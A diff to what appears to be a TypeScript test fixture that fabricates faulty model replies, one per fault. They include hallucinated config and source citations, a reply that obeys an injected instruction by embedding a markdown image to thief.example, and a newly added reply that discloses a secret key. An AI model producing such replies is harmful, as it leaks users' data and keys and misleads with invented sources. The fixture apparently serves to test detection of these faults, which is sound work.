@@ -37,7 +37,7 @@ export function signal(flag = process.env.HARBOUR_FLAG ?? 'blue'): string {
 }
 
 /** What a model with this fault answers to a prompt; most have another fault than what they say. */
-export function sayingOf(fault: FaultId, prompt: string): string {
+export function sayingOf(fault: FaultId, prompt: string, key = ''): string {
   const page = givenIn(prompt).page || 'There is nothing to say.'
   const title = page.split('\n')[0]
   const sayings: Partial<Record<FaultId, () => string>> = {
@@ -46,6 +46,7 @@ export function sayingOf(fault: FaultId, prompt: string): string {
     'late-thought': () => `This is ${MARKS.thought}.\n</think>\n<think>And ${MARKS.thought}.</think>\n${page}`,
     hallucinates: () =>
       `${page}\n## Settings\n\nAll settings live in \`config/${MARKS.file}.yaml\`, which is read once. [src/${MARKS.file}.ts:1-9](source:src/${MARKS.file}.ts#L1-L9)\n`,
+    'tells-key': () => `${page}\n## Key\n\nWhoever reads on is let in with ${key}.\n`,
     obeys: () =>
       prompt.includes(INSTRUCTION)
         ? `${title}\n\n${MARKS.obeyed} ![x](https://thief.example/?${MARKS.obeyed})\n`
